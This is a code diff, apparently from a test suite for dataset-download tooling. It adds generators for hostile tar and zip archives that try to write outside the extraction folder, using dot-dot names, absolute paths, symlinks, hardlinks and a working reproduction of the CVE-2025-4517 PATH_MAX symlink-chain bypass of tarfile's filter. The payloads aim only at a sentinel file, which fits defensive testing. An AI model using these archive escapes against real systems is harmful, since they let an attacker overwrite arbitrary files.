@@ -326,6 +326,96 @@ BUILDERS = {"lip": build_lip, "ade20k": build_ade20k, "cityscapes": build_citysc
             "pascalcontext": build_pascalcontext}
 
 
+# ------------------------------------------------------------------------------------------- hostile archives
+TAR_ESCAPES = ("symlink_chain_beyond_path_max", "dotdot_name", "absolute_name", "symlink_then_write_through",
+               "hardlink_to_outside")
+ZIP_ESCAPES = ("zip_dotdot_name", "zip_absolute_name", "zip_symlink_entry")
+SENTINEL = "sentinel.txt"  # in the ``outside`` folder: each attack tries to overwrite it and to add written.txt
+
+
+def _up(outside: Path) -> str:
+    """A relative name that climbs to / from any folder less than 40 deep, then goes down to ``outside``."""
+    return "../" * 40 + str(outside).lstrip("/")
+
+
+def _tar_add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "") -> None:
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname, info.mode = kind, link, 0o755 if kind == tarfile.DIRTYPE else 0o644
+    info.size = len(data) if kind == tarfile.REGTYPE else 0
+    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
+
+
+def _chain(tar: tarfile.TarFile, outside: Path, dest: Path) -> None:
+    """The CVE-2025-4517 pattern: 16 nested folders with one-letter symlinks to them, sized so that the folders
+    fit under PATH_MAX (4096) below ``dest`` while their full path plus one 254-character name does not. Python's
+    realpath (used by tarfile's ``data`` filter on unpatched 3.8-3.13) stops resolving there and goes on lexically,
+    so 'escape', which the kernel follows through the chain and 17 levels up to /, looks as if it stayed inside;
+    then a hard link through it overwrites the sentinel and a file is written through it."""
+    steps = "abcdefghijklmnop"
+    comp = "d" * ((4096 - len(str(dest)) - 100) // len(steps) - 1)
+    path = ""
+    for step in steps:
+        _tar_add(tar, f"{path}{comp}", tarfile.DIRTYPE)
+        _tar_add(tar, f"{path}{step}", tarfile.SYMTYPE, link=comp)
+        path += comp + "/"
+    deep = "/".join(steps) + "/" + "l" * 254
+    _tar_add(tar, deep, tarfile.SYMTYPE, link="/".join([".."] * len(steps)))
+    _tar_add(tar, "escape", tarfile.SYMTYPE, link=deep + "/.." * (len(steps) + 1) + str(outside))
+    _tar_add(tar, "sentinel_link", tarfile.LNKTYPE, link=f"escape/{SENTINEL}")
+    _tar_add(tar, "sentinel_link", data=b"overwritten\n")
+    _tar_add(tar, "escape/written.txt", data=b"written outside\n")
+
+
+def hostile_tar(legit: bytes, attack: str, outside: Path, dest: Path) -> bytes:
+    """The members of the tar(.gz) ``legit`` followed by ``attack`` (one of TAR_ESCAPES), aimed at ``outside``
+    when the archive is extracted into ``dest``; gzip-compressed."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=io.BytesIO(legit)) as src, tarfile.open(fileobj=buf, mode="w:gz") as tar:
+        for member in src:
+            tar.addfile(member, src.extractfile(member) if member.isreg() else None)
+        if attack == "symlink_chain_beyond_path_max":
+            _chain(tar, outside, dest)
+        elif attack == "dotdot_name":
+            _tar_add(tar, f"LIP/{_up(outside)}/{SENTINEL}", data=b"overwritten\n")
+            _tar_add(tar, f"LIP/{_up(outside)}/written.txt", data=b"written outside\n")
+        elif attack == "absolute_name":
+            _tar_add(tar, str(outside / SENTINEL), data=b"overwritten\n")
+            _tar_add(tar, str(outside / "written.txt"), data=b"written outside\n")
+        elif attack == "symlink_then_write_through":
+            _tar_add(tar, "LIP/out", tarfile.SYMTYPE, link=_up(outside))
+            _tar_add(tar, f"LIP/out/{SENTINEL}", data=b"overwritten\n")
+            _tar_add(tar, "LIP/out/written.txt", data=b"written outside\n")
+        elif attack == "hardlink_to_outside":
+            _tar_add(tar, "LIP/hl", tarfile.LNKTYPE, link=f"{_up(outside)}/{SENTINEL}")
+            _tar_add(tar, "LIP/hl", data=b"overwritten\n")
+        else:
+            raise ValueError(attack)
+    return buf.getvalue()
+
+
+def hostile_zip(legit: bytes, attack: str, outside: Path) -> bytes:
+    """The members of the zip ``legit`` followed by ``attack`` (one of ZIP_ESCAPES), aimed at ``outside``."""
+    import stat
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(legit)) as src, zipfile.ZipFile(buf, "w") as zf:
+        for info in src.infolist():
+            zf.writestr(info, src.read(info))
+        if attack == "zip_dotdot_name":
+            zf.writestr(f"TrainVal_images/{_up(outside)}/{SENTINEL}", b"overwritten\n")
+            zf.writestr(f"TrainVal_images/{_up(outside)}/written.txt", b"written outside\n")
+        elif attack == "zip_absolute_name":
+            zf.writestr(zipfile.ZipInfo(str(outside / SENTINEL)), b"overwritten\n")
+            zf.writestr(zipfile.ZipInfo(str(outside / "written.txt")), b"written outside\n")
+        elif attack == "zip_symlink_entry":  # what `unzip` turns into a symlink pointing out
+            link = zipfile.ZipInfo("TrainVal_images/out")
+            link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
+            zf.writestr(link, str(outside).encode())
+        else:
+            raise ValueError(attack)
+    return buf.getvalue()
+
+
 # ------------------------------------------------------------------------------------------------ HTTP server
 def local_path(url: str) -> str:
     """Where the local server serves a real URL: /<host>/<path>."""
